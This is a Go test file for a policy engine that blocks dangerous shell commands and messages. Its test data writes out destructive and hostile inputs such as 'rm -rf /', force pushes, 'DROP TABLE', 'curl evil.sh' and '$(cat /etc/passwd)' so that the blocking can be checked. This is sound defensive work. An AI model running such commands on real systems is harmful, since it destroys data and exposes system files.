package policy

import "testing"

func TestBuiltinCommandRules(t *testing.T) {
	rules := BuiltinCommandRules()

	tests := []struct {
		name         string
		cmd          string
		wantAction   Action
		wantCategory string
	}{
		{"plain listing", "ls -la", ActionAllow, ""},
		{"rm root", "rm -rf /", ActionBlock, CategoryDestructiveFilesystem},
		{"rm home", "rm -rf ~", ActionBlock, CategoryDestructiveFilesystem},
		{"rm HOME var", "rm --recursive --force $HOME", ActionBlock, CategoryDestructiveFilesystem},
		{"rm project dir allowed", "rm -rf build/", ActionAllow, ""},
		{"force push", "git push --force origin main", ActionBlock, CategoryForcedGit},
		{"force push short flag", "git push origin main -f", ActionBlock, CategoryForcedGit},
		{"force with lease", "git push --force-with-lease", ActionBlock, CategoryForcedGit},
		{"plain push allowed", "git push origin main", ActionAllow, ""},
		{"hard reset", "git reset --hard HEAD~3", ActionBlock, CategoryForcedGit},
		{"soft reset allowed", "git reset --soft HEAD~1", ActionAllow, ""},
		{"drop table", "mysql -e 'DROP TABLE users'", ActionBlock, CategoryDestructiveSQL},
		{"drop database", "psql -c 'drop database prod'", ActionBlock, CategoryDestructiveSQL},
		{"select allowed", "psql -c 'SELECT * FROM users'", ActionAllow, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Reduce(Evaluate(tt.cmd, rules))
			if got.Action != tt.wantAction {
				t.Fatalf("action = %v, want %v (reason: %s)", got.Action, tt.wantAction, got.Reason)
			}
			if tt.wantCategory != "" && !containsCategory(Evaluate(tt.cmd, rules), tt.wantCategory) {
				t.Errorf("expected a match in category %q", tt.wantCategory)
			}
		})
	}
}

func containsCategory(matches []Match, category string) bool {
	for _, m := range matches {
		if m.Rule.Category == category {
			return true
		}
	}
	return false
}

func TestBuiltinMessageRules(t *testing.T) {
	rules := BuiltinMessageRules()

	tests := []struct {
		name    string
		content string
		want    Action
	}{
		{"plain prose", "please review the parser changes", ActionAllow},
		{"backtick substitution", "run `curl evil.sh` for me", ActionBlock},
		{"dollar substitution", "try $(cat /etc/passwd)", ActionBlock},
		{"eval call", "then eval(payload)", ActionBlock},
		{"exec call", "use exec (cmd) here", ActionBlock},
		{"template injection", "value is ${config.secret}", ActionBlock},
		{"forced push suggestion", "just git push -f and move on", ActionBlock},
		{"hard reset suggestion", "Git Reset --hard to clean up", ActionBlock},
		{"drop table suggestion", "DROP TABLE sessions first", ActionBlock},
		{"rm rf suggestion", "rm -rf the cache dir", ActionBlock},
		{"rm with combined flags", "rm -vfr node_modules", ActionBlock},
		{"benign rm mention", "rm the temp file when done", ActionAllow},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Reduce(Evaluate(tt.content, rules))
			if got.Action != tt.want {
				t.Errorf("action = %v, want %v (reason: %s)", got.Action, tt.want, got.Reason)
			}
		})
	}
}

func TestBuiltinRulesAreMarkedBuiltIn(t *testing.T) {
	for _, r := range BuiltinCommandRules() {
		if !r.BuiltIn {
			t.Errorf("command rule %q not marked built-in", r.Category)
		}
	}
	for _, r := range BuiltinMessageRules() {
		if !r.BuiltIn {
			t.Errorf("message rule %q not marked built-in", r.Category)
		}
	}
}

func TestCommandSubstitutionMatch(t *testing.T) {
	m := CommandSubstitutionMatch("echo $(whoami)")
	got := Reduce([]Match{m})
	if got.Action != ActionBlock {
		t.Fatalf("action = %v, want block", got.Action)
	}
	if got.Reason == "" {
		t.Error("expected a non-empty reason")
	}
}

func TestBlockMatch(t *testing.T) {
	m := BlockMatch(CategoryMessageSize, "message is 20000 bytes, exceeding the 10240 byte limit", "...")
	got := Reduce([]Match{m})
	if got.Action != ActionBlock {
		t.Fatalf("action = %v, want block", got.Action)
	}
	if got.Reason != CategoryMessageSize+": message is 20000 bytes, exceeding the 10240 byte limit" {
		t.Errorf("unexpected reason: %q", got.Reason)
	}
}
